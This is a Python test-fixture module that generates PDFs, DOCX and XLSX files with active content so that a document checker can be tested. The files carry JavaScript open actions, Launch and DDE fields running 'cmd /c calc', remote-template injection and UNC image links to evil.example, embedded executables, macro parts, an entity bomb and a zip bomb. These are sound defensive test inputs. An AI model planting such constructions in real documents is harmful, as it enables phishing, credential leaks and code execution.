"""Evidence files with active content, made in code (issue 16, item 8): each builder returns
the bytes of a file that a viewer or Office would open, carrying one class of active content,
and the clean files they are variations of.

PDFs are written with pikepdf (so they are real, parseable PDFs: the check must find the
content, not trip over a broken file), plus a few written byte by byte where the point is the
raw syntax (a name spelt with ``#`` escapes, nesting). Office files start from a document
python-docx or XlsxWriter made and get parts added or replaced.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pikepdf
import xlsxwriter
from docx import Document as Docx

# The EICAR test file, the antivirus industry's harmless test signature (put together here so
# that this source file is not itself flagged by a scanner).
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MZ_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200


# --- PDF ------------------------------------------------------------------------------------


def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def clean_pdf() -> bytes:
    return _pdf()


def pdf_with_link() -> bytes:
    """A clean PDF with an ordinary web link and an open action that only goes to page 1."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.obj["/Annots"] = pdf.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name.Link,
                        Rect=[0, 0, 100, 100],
                        A=pikepdf.Dictionary(
                            S=pikepdf.Name.URI, URI=pikepdf.String("https://mic.gov.vn")
                        ),
                    )
                ]
            )
        )
        pdf.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])

    return _pdf(change)


def _javascript_action() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Action,
        S=pikepdf.Name.JavaScript,
        JS=pikepdf.String("app.alert('x'); this.exportDataObject({cName: 'a', nLaunch: 2});"),
    )


def pdf_open_action_javascript(*, object_streams: bool = False) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(_javascript_action())

    if object_streams:
        return _pdf(
            change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
        )
    return _pdf(change)


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the name tree (/Names /JavaScript), no /OpenAction."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(
                Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(_javascript_action())])
            )
        )

    return _pdf(change)


def pdf_additional_actions() -> bytes:
    """A page's /AA (open-page trigger) running a script."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_javascript_action())

    return _pdf(change)


def pdf_launch() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.Launch,
            Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")),
        )

    return _pdf(change)


def pdf_submit_form() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm,
            F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/")),
        )

    return _pdf(change)


def pdf_embedded_executable() -> bytes:
    """A program carried as an embedded file (the attachment pane), no script at all."""

    def change(pdf: pikepdf.Pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, MZ_PROGRAM, filename="setup.exe")
        pdf.attachments["setup.exe"] = spec

    return _pdf(change)


def pdf_xfa() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")
        )

    return _pdf(change)


def _raw_pdf(catalog_extra: bytes, extra_objects: bytes = b"") -> bytes:
    """A PDF written byte by byte, with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    if extra_objects:
        objects.append(extra_objects)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def pdf_escaped_name_javascript() -> bytes:
    """``/S /J#61vaScript /J#53 (…)``: the names a byte scan for "/JavaScript" misses."""
    return _raw_pdf(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_deeply_nested(depth: int = 100_000) -> bytes:
    """An array nested ``depth`` levels deep: a stack-overflow and CPU test for the parser."""
    return _raw_pdf(b"/Nest " + b"[" * depth + b"]" * depth)


def pdf_encrypted() -> bytes:
    return _pdf(encryption=pikepdf.Encryption(user="secret", owner="owner"))


# --- OOXML ----------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def clean_docx(text: str = "Quyết định phê duyệt kế hoạch") -> bytes:
    document = Docx()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewrite(data: bytes, parts: dict[str, bytes | Callable[[bytes], bytes]]) -> bytes:
    """The ZIP with ``parts`` replaced (a callable gets the old bytes) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for name in names:
            content = source.read(name)
            change = parts.get(name)
            if change is not None:
                content = change(content) if callable(change) else change
            target.writestr(name, content)
        for name, change in parts.items():
            if name not in names:
                assert not callable(change), name
                target.writestr(name, change)
    return out.getvalue()


def _add_relationship(rels: bytes, rid: str, kind: str, target: str, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", line.encode() + b"</Relationships>")


def _body(document_xml: bytes, xml: str) -> bytes:
    return document_xml.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


def docx_remote_template(target: str = "http://evil.example/t.dotm") -> bytes:
    """The attachedTemplate relationship of word/settings.xml pointing to ``target``: by
    default a web address (the template injection of phishing documents)."""
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{REL}">'
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()

    def settings(xml: bytes) -> bytes:
        return xml.replace(b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>')

    return _rewrite(
        clean_docx(),
        {"word/_rels/settings.xml.rels": rels, "word/settings.xml": settings},
    )


def docx_external_image() -> bytes:
    """A picture linked from a remote address (fetched, and credentials leaked, on open)."""
    return _rewrite(
        clean_docx(),
        {
            "word/_rels/document.xml.rels": lambda rels: _add_relationship(
                rels, "rId99", f"{R}/image", "\\\\evil.example\\share\\a.png", external=True
            )
        },
    )


def docx_with_hyperlink() -> bytes:
    """An ordinary external hyperlink: not active content, accepted."""
    return _rewrite(
        clean_docx(),
        {
            "word/_rels/document.xml.rels": lambda rels: _add_relationship(
                rels, "rId98", f"{R}/hyperlink", "https://mic.gov.vn/", external=True
            ),
            "word/document.xml": lambda xml: _body(
                xml,
                '<w:p><w:hyperlink r:id="rId98"><w:r><w:t>mic.gov.vn</w:t></w:r>'
                "</w:hyperlink></w:p>",
            ),
        },
    )


def docx_dde(*, split: bool = True) -> bytes:
    """A DDEAUTO field; ``split`` spreads its instruction over runs, as Word itself often
    stores it (a search for the word in one element misses it)."""
    if split:
        instruction = (
            '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
            '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc.exe"</w:instrText></w:r>'
        )
    else:
        instruction = (
            '<w:r><w:instrText xml:space="preserve"> DDE cmd "/c calc"</w:instrText></w:r>'
        )
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + instruction
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _rewrite(clean_docx(), {"word/document.xml": lambda xml: _body(xml, field)})


def docx_dde_simple_field() -> bytes:
    field = (
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;">'
        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    )
    return _rewrite(clean_docx(), {"word/document.xml": lambda xml: _body(xml, field)})


def docx_with_ordinary_field() -> bytes:
    """A page-number field: a field, but not active content; accepted."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _rewrite(clean_docx(), {"word/document.xml": lambda xml: _body(xml, field)})


def docx_ole_object() -> bytes:
    """An embedded OLE object (word/embeddings/oleObject1.bin) shown in the body."""

    def types(xml: bytes) -> bytes:
        return xml.replace(
            b"</Types>",
            b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
            b'officedocument.oleObject"/></Types>',
        )

    return _rewrite(
        clean_docx(),
        {
            "[Content_Types].xml": types,
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MZ_PROGRAM,
            "word/_rels/document.xml.rels": lambda rels: _add_relationship(
                rels, "rId97", f"{R}/oleObject", "embeddings/oleObject1.bin", external=False
            ),
            "word/document.xml": lambda xml: _body(
                xml,
                '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
                ' Type="Embed" ProgID="Package" r:id="rId97"/></w:object></w:r></w:p>',
            ),
        },
    )


def docx_with_chart_workbook() -> bytes:
    """A chart's data kept as an embedded workbook, the way Word stores every chart: accepted."""
    chart_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{REL}">'
        f'<Relationship Id="rId1" Type="{R}/package" '
        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>'
    ).encode()
    return _rewrite(
        clean_docx(),
        {
            "word/charts/chart1.xml": b'<?xml version="1.0"?><c:chartSpace '
            b'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
            "word/charts/_rels/chart1.xml.rels": chart_rels,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": clean_xlsx(),
        },
    )


def docx_with_macros_renamed() -> bytes:
    """A macro project inside a file named .docx (a .docm renamed)."""
    return _rewrite(clean_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64})


def docx_with_entity_declaration() -> bytes:
    """A DTD with an entity in the main part (a billion-laughs start): refused as damaged."""
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    return _rewrite(
        clean_docx(),
        {"word/footnotes.xml": bomb + f'<w:footnotes xmlns:w="{W}">&b;</w:footnotes>'.encode()},
    )


def clean_xlsx(value: object = "Chỉ tiêu") -> bytes:
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet("Bang")
    sheet.write(0, 0, value)
    sheet.write_formula(1, 0, "=SUM(1,2)")
    sheet.write_formula(2, 0, '=CONCATENATE("a|b","c")')
    workbook.close()
    return out.getvalue()


def xlsx_dde_formula() -> bytes:
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet("Bang")
    sheet.write_formula(0, 0, "=cmd|'/C calc'!A0")
    workbook.close()
    return out.getvalue()


def xlsx_dde_link() -> bytes:
    """An external link part holding a DDE link (how Excel stores =cmd|… once saved)."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
        b"</externalLink>"
    )
    return _rewrite(clean_xlsx(), {"xl/externalLinks/externalLink1.xml": link})


def xlsx_external_workbook_link() -> bytes:
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{REL}">'
        f'<Relationship Id="rId1" Type="{R}/externalLinkPath" '
        'Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return _rewrite(clean_xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def ole2_with_macros() -> bytes:
    """A legacy OLE2 compound file (.doc/.xls) header with a VBA stream name in it."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 56
        + "_VBA_PROJECT".encode("utf-16-le")
        + b"\x00" * 400
    )


def docx_zip_bomb(unpacked: int) -> bytes:
    """A DOCX with a part of ``unpacked`` zero bytes (it packs about 1,000 times)."""
    out = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(clean_docx()))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        with target.open("word/media/padding.bin", "w", force_zip64=True) as part:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(unpacked // len(chunk)):
                part.write(chunk)
    return out.getvalue()
